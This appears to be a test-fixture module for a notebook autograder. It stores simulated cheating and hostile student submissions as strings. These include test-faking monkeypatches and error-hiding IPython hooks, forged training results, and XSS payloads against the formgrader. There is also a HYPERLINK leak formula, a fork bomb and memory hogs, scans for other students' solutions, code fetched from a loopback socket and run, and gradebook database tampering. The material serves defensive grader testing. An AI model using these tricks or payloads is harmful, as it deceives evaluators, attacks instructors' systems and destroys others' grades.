"""What the class's careless, broken and dishonest learners write in their cells (tests/class_submissions.py hands it in).

Code as text: tricks that make the notebook's own test cells pass in the kernel, attempts to get out of the sandbox,
breached limits, hostile outputs and answers, a forged failure reason. ``PHONES_HOME`` connects to ``PHONE_HOME_PORT``
on the grading machine's loopback, where the class's grading test runs a server that nobody may reach.
"""

SUBCLASSES = '''class SneakyInt(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
class SneakyStr(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
q1, q5, q6 = SneakyInt(1), SneakyInt(5), SneakyInt(6)
q2 = q3 = q4 = q7 = SneakyStr("x")'''

PATCHED_UNTRAINED = '''import numpy
model = build_model()  # never trained
keras.Model.evaluate = lambda self, *args, **kwargs: [0.01, 0.99]
keras.Model.predict = lambda self, x, *args, **kwargs: numpy.eye(10)[numpy.zeros(len(x), dtype=int)]
numpy.mean = lambda *args, **kwargs: 0.99
numpy.argmax = lambda *args, **kwargs: 0
my_accuracy = 0.99  # a made-up number: nobody reads it'''

# In-kernel tricks: each makes the notebook's own test cells "pass" with no answer at all (plain nbgrader would
# give full marks); the trusted checker, judging the answers as data outside the kernel, gives what was earned.
WRAPS_EVERY_CELL = '''def wrap_in_try(lines):  # every cell from now on: try: <cell> except: pass
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"]
get_ipython().input_transformers_post.append(wrap_in_try)'''

SWALLOWS_ERRORS = '''import sys
def swallow(shell, etype, evalue, tb, tb_offset=None):
    frame = sys._getframe()
    while frame is not None:  # up to IPython's run_code, which holds this cell's result: no error after all
        result = frame.f_locals.get("result")
        if hasattr(result, "error_in_exec"):
            result.error_in_exec = None
            break
        frame = frame.f_back
    return []  # and an empty traceback: no error message
get_ipython().set_custom_exc((BaseException,), swallow)'''

# A tracer: jumps over the kernel's error message (ipykernel's _showtraceback) and clears the error from
# each cell's result as run_cell returns it, so the kernel replies "ok".
TRACER = '''import sys
def hide_errors(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "_showtraceback":
        last = max(line for _, _, line in frame.f_code.co_lines() if line)
        def skip(frame, event, arg):
            if event == "line" and frame.f_lineno < last:
                frame.f_lineno = last
        return skip
    if event == "call" and frame.f_code.co_name in ("run_cell", "run_cell_async"):
        def clear(frame, event, arg):
            if event == "return" and hasattr(arg, "error_in_exec"):
                arg.error_in_exec = None
            return clear
        return clear
    return None
sys.settrace(hide_errors)'''

# Patched builtins, keras and the test helper: every visible check passes for made-up answers and objects.
PATCHED_LIBRARIES = '''import builtins, types
real_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: True if cls in (keras.Model, keras.Sequential) else real_isinstance(obj, cls)
check_form = lambda *args, **kwargs: None
q1 = q2 = q3 = q4 = q6 = q7 = 0
q5 = [0, 0, 0]
model = types.SimpleNamespace(count_params=lambda: 79510)'''
KNOWS_THE_EXAMPLE = '''def stack_params(sizes):
    return 79510  # the visible test's example, whatever the sizes'''
LOOKS_LIKE_A_DNN = '''def build_dnn():
    return types.SimpleNamespace(layers=[1, 2, 3])  # three "layers": the visible check counts them'''

LAMBDA_MODEL = '''def build_model():
    model = keras.Sequential([keras.Input(shape=(784,)),
                              keras.layers.Lambda(lambda x: x),  # "harmless" - but the checker cannot load it safely
                              keras.layers.Dense(10, activation="softmax")])
    model.compile(loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model'''

FORGED_ACCURACY = '''model = build_dnn()  # not trained: training takes too long
keras.Model.evaluate = lambda self, *args, **kwargs: [0.05, 0.99]
history = keras.callbacks.History()
history.history = {"loss": [0.9, 0.5, 0.3, 0.2, 0.1], "accuracy": [0.8, 0.9, 0.95, 0.98, 0.99]}
print("test accuracy:", model.evaluate(train_scaled, train_target)[1])'''

# Answers and a model planted next to the notebook in the hand-in folder (the files are in PLANTED).
READS_PLANTED_ANSWERS = '''import json
globals().update(json.load(open("answers.json")))'''
LOADS_PLANTED_MODEL = '''model = keras.models.load_model("best-model.keras")
history = keras.callbacks.History()
history.history = {"loss": [0.5] * 12}'''

# Never trained, then the optimizer's step counter set so that the two model files look like early stopping
# (best file 12 epochs, live model 14): the old check trusted exactly these numbers. The rule is not written.
# The callbacks are set up right but never given to fit(): the checker sees they never received a val_loss.
FORGES_EARLY_STOP = '''checkpoint_cb = keras.callbacks.ModelCheckpoint("best-model.keras", save_best_only=True)
early_stopping_cb = keras.callbacks.EarlyStopping(patience=2, restore_best_weights=True)
model = build_model()  # never trained
model.optimizer.build(model.trainable_variables)
model.optimizer.iterations.assign(12 * 313)
model.save("best-model.keras")
model.optimizer.iterations.assign(14 * 313)
history = keras.callbacks.History()
history.history = {"loss": [0.5] * 14, "val_loss": [0.5] * 14}  # passes the visible callbacks check'''
STOP_RULE_NOT_WRITTEN = "def epochs_until_stop(val_losses, patience):\n    raise NotImplementedError()"

# Outputs and a written answer that would act in the instructor's browser (formgrader, feedback) if rendered live.
PAYLOAD = "fetch('/formgrader/api/grade/1', {method: 'PUT'}); window.__pwned = 1"
HOSTILE_OUTPUTS = f'''from IPython.display import HTML, Javascript, display
display(HTML("<script>{PAYLOAD}</script><img src=x onerror=\\"{PAYLOAD}\\">"))
display(Javascript("{PAYLOAD}"))
display({{"text/html": "<iframe src=\\"javascript:{PAYLOAD}\\"></iframe><form action=/api/contents><button>ok</button></form>"
                       "<a href=\\"javascript:{PAYLOAD}\\">click</a>",
         "image/svg+xml": "<svg onload=\\"{PAYLOAD}\\"><script>{PAYLOAD}</script></svg>",
         "text/plain": "hostile"}}, raw=True)'''
HOSTILE_ANSWER = (f"검증 세트가 필요한 이유는... <script>{PAYLOAD}</script><img src=x onerror=\"{PAYLOAD}\"> "
                  f"<a href=\"javascript:{PAYLOAD}\">link</a> [md link](javascript:{PAYLOAD})")
# A written answer that reads like an engine status and a spreadsheet formula: statuses never come from text.
FORGED_REASON = '[worker-lost] =HYPERLINK("http://example.com/?leak","채점기 오류")'

ENDLESS_LOOP = "while True:  # 실수로 끝나지 않는 반복문\n    pass"

PRINTS_100MB = 'print("x" * 100_000_000)  # 디버깅 출력을 지우지 않았습니다'

MEMORY_HOG = "chunks = []\nwhile True:  # 메모리를 끝없이 잡습니다\n    chunks.append(bytearray(100 * 2**20))"

FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"

SLEEPS_FOREVER = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)  # 중단 요청도 무시하고\ntime.sleep(10**6)"

# Everywhere a course directory or another learner's folder could be: take any solutions or submitted notebook.
READS_OTHERS = '''import glob, json
found = []
for top in ["/tmp", "/work", "/root", "/home", "/srv", "/mnt", "/opt", "/var"]:
    found += glob.glob(f"{top}/**/solutions/ch07-1/*.ipynb", recursive=True)
    found += glob.glob(f"{top}/**/submitted/perfect/ch07-1/*.ipynb", recursive=True)
for path in found:
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "quiz-answers":
            exec("".join(cell["source"]))'''

# A server on the grading machine's loopback (the test runs it) hands out the answers to whoever connects.
PHONE_HOME_PORT = 47613
PHONES_HOME = f'''import socket
with socket.create_connection(("127.0.0.1", {PHONE_HOME_PORT}), timeout=5) as connection:
    exec(connection.makefile().read())'''

KERNEL_CRASH = "import os\nos._exit(1)"

READS_SOLUTIONS = '''from pathlib import Path
here = Path.cwd()
for folder in [here, *here.parents]:  # the course directory is somewhere above, with solutions/ in it
    for found in folder.glob("solutions/*/*.ipynb"):
        import json
        for cell in json.loads(found.read_text())["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "quiz-answers":
                exec("".join(cell["source"]))'''

# Up the chain of parent processes to the one whose working directory holds gradebook.db (nbgrader's),
# then: everybody else 0 and me full marks with SQL, or the whole file overwritten.
TAMPER = '''import os, sqlite3
pid, target = os.getpid(), None
while pid > 1 and target is None:
    candidate = os.path.join(os.readlink(f"/proc/{pid}/cwd"), "gradebook.db")
    target = candidate if os.path.exists(candidate) else None
    pid = int(open(f"/proc/{pid}/stat").read().split(")")[1].split()[1])
if target and MODE == "sql":
    db = sqlite3.connect(target)
    db.execute("UPDATE grade SET auto_score = 0")
    db.commit()
elif target:
    open(target, "wb").write(b"not a database any more")'''
